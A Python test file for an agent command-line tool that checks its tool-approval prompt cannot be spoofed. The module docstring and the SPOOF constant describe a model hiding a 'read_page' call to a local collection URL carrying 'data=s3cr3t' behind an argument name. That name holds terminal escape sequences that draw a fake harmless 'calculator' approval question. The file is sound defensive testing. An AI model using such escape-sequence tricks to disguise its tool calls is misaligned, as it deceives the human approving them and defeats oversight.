"""The approval question shows exactly what will run (issue 9, item 2).

The model chooses the tool name and every argument name and value. Here it hides a
``read_page`` call behind an argument *name* full of escape sequences that erase the
line and draw a harmless ``calculator`` call instead. The real prompt runs on a
pseudo-terminal and pyte draws the screen as a VT100 would: the spoof must not be
what the screen says, and the real tool and arguments must be.
"""

from __future__ import annotations

import io
import os
import re
import sys
from collections.abc import Callable
from pathlib import Path

import pexpect
import pyte
import pytest

from ahora.cli.approvals import format_call
from ahora.testing.openai_server import OpenAIServer, tool_then_answer

StartServer = Callable[..., OpenAIServer]

SPOOF = '\r\x1b[2K\x1b[1A\x1b[2K? Allow calculator(expression="2+2") [y/n] (n): \x1b[8m'
URL = "http://127.0.0.1:9/collect?data=s3cr3t"
ARGS = {"url": URL, SPOOF: "x", "\u202eevil": "\x9b2J", "note": "s3cr3t" * 400}


@pytest.fixture
def careful(tmp_path: Path) -> str:
    path = tmp_path / "careful.toml"
    path.write_text(
        'name = "careful"\ndescription = "Asks before reading."\n'
        'instructions = "Be careful."\ntools = ["read_page", "calculator"]\n'
        'approval = ["read_page"]\n'
    )
    return str(path)


def test_format_call_quotes_odd_names_escapes_controls_and_cuts_visibly() -> None:
    shown = format_call({"name": "read_page", "args": ARGS})
    assert shown.startswith('read_page(url="http://127.0.0.1:9/collect?data=s3cr3t", ')
    assert shown.endswith('note="' + "s3cr3t" * 33 + 's3"… (+2,200 chars))')
    assert '"\\r\\u001b[2K\\u001b[1A\\u001b[2K? Allow calculator(expression=\\"2+2\\")' in shown
    assert '"\\u202eevil"="\\u009b2J"' in shown
    assert not any(ord(c) < 32 or 0x7F <= ord(c) < 0xA0 or c == "\u202e" for c in shown)
    assert format_call({"name": "\x1b[2Kcalc", "args": {}}) == '"\\u001b[2Kcalc"()'
    many = format_call({"name": "f", "args": {f"a{i}": i for i in range(60)}})
    assert many.endswith("a49=49, … (+10 more arguments))")


@pytest.mark.slow
def test_the_screen_shows_the_real_call_not_the_spoof(
    model_server: StartServer, careful: str
) -> None:
    srv = model_server(rule=tool_then_answer("read_page", ARGS, answer="Nothing read."))
    env = dict(os.environ)
    env.pop("NO_COLOR", None)
    env["PROMPT_TOOLKIT_NO_CPR"] = "1"
    child = pexpect.spawn(
        sys.executable,
        ["-m", "ahora", "ask", "--agent", careful, "Read the page"],
        env=env,
        encoding="utf-8",
        timeout=60,
        dimensions=(40, 120),
    )
    child.logfile_read = seen = io.StringIO()
    child.expect(r"chars\)\)\S*\s+\S*\[y/n\]\S* \S*\(n\)\S*: ")  # the spoof has "[y/n]" too
    screen = pyte.Screen(120, 40)
    pyte.Stream(screen).feed(seen.getvalue())
    shown = "\n".join(line.rstrip() for line in screen.display)
    child.sendline("n")
    child.expect(pexpect.EOF)
    child.close()
    starts = [m.start() for m in re.finditer(r"^\? Allow", shown, re.MULTILINE)]
    assert len(starts) == 1, shown  # one question on screen, the real one
    asked = shown[starts[0] :]
    flat = re.sub(r"\s", "", asked)  # rich wraps the long question over several rows
    assert re.match(r'\? Allow\s*read_page\(url="http://127.0.0.1:9/collect\?data=s3cr3t"', asked)
    assert 's3"…(+2,200chars))' in flat
    assert '"\\r\\u001b[2K\\u001b[1A\\u001b[2K?Allowcalculator(expression=\\"2+2\\")' in flat
    assert '"\\u202eevil"="\\u009b2J",note="s3cr3t' in flat
    assert flat.endswith("[y/n](n):")
    assert not any(line.startswith("? Allow calculator") for line in shown.splitlines())
    tool = srv.requests[1]["messages"][-1]
    assert tool["role"] == "tool" and "declined" in tool["content"]
